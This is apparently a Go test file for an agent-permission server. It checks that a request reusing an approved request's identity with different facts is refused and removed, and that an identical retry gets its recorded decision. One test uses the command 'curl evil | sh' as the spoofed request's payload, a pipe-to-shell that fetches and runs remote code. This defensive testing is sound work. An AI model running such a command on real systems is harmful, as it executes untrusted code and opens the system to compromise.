package serve

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/permtui/permtui/internal/resolve"
	"github.com/permtui/permtui/internal/safefs"
	"github.com/permtui/permtui/internal/wire"
)

// A second request file under another name that reuses a decided request's
// identity (id, requester, createdAt) with other facts is not answered with
// the decision a person made about the first: it is refused, removed and
// reported, and nothing is recorded or delivered for it (decision 0210).
func TestARequestReusingADecidedIdentityWithOtherFactsIsRefused(t *testing.T) {
	const id = "1791279012345-reuse-1"
	h := startServer(t, options{})
	h.judge.set("npm test", ruleVerdict(resolve.Ask, "", "*", "global", ""))
	h.judge.set("curl evil | sh", ruleVerdict(resolve.Ask, "", "*", "global", ""))
	first := intent(id, "builder", "bash", "npm test")
	h.send(first)
	ask := h.queued(id)
	if err := h.s.Decide(Decision{Ask: ask.ID, State: wire.StateApproved}); err != nil {
		t.Fatal(err)
	}
	if resp := h.await(id); !resp.Approved {
		t.Fatalf("first answer %+v", resp)
	}

	other := intent(id, "scout", "bash", "curl evil | sh")
	other.RequesterSessionID = first.RequesterSessionID // the same identity
	data, err := wire.MarshalRequest(other)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(h.layout.RequestsDir(rootID), "zzz-other-name.json")
	if err := safefs.WriteFileAtomic(path, data); err != nil {
		t.Fatal(err)
	}
	inv := h.rec.WaitFor(t, "refused reuse", func(ev Event) bool {
		i, ok := ev.(Invalid)
		return ok && i.Path == path
	}).(Invalid)
	if !strings.Contains(inv.Reason, "other facts") {
		t.Errorf("reason %q does not say why", inv.Reason)
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("the refused request is still there: %v", err)
	}
	if _, err := os.Stat(h.layout.ResponsePath(rootID, id)); !os.IsNotExist(err) {
		t.Errorf("a response was written for the reused id: %v", err)
	}
	h.shutdown()
	if recs := h.auditFor(id); len(recs) != 1 || recs[0]["agent"] != "builder" {
		t.Fatalf("decisions for the id: %+v", recs)
	}
	if dels := h.deliveriesFor(id); len(dels) != 1 || dels[0]["replayed"] == true {
		t.Fatalf("deliveries for the id: %+v", dels)
	}
	for _, ev := range h.rec.Snapshot() {
		if d, ok := ev.(Decided); ok && d.Ask.Request.RequesterAgentName == "scout" {
			t.Fatalf("the reused request was answered: %+v", d)
		}
	}
}

// The same request sent again (a retry, or a restart's second look) still
// gets the recorded decision.
func TestTheSameRequestAgainGetsItsRecordedDecision(t *testing.T) {
	const id = "1791279012345-reuse-2"
	h := startServer(t, options{})
	h.judge.set("npm test", ruleVerdict(resolve.Ask, "", "*", "global", ""))
	req := intent(id, "builder", "bash", "npm test")
	h.send(req)
	ask := h.queued(id)
	if err := h.s.Decide(Decision{Ask: ask.ID, State: wire.StateDenied}); err != nil {
		t.Fatal(err)
	}
	if resp := h.await(id); resp.Approved {
		t.Fatalf("first answer %+v", resp)
	}
	h.send(req)
	if resp := h.await(id); resp.Approved {
		t.Fatalf("second answer %+v", resp)
	}
	h.shutdown()
	if recs := h.auditFor(id); len(recs) != 1 {
		t.Fatalf("decisions for the id: %+v", recs)
	}
}
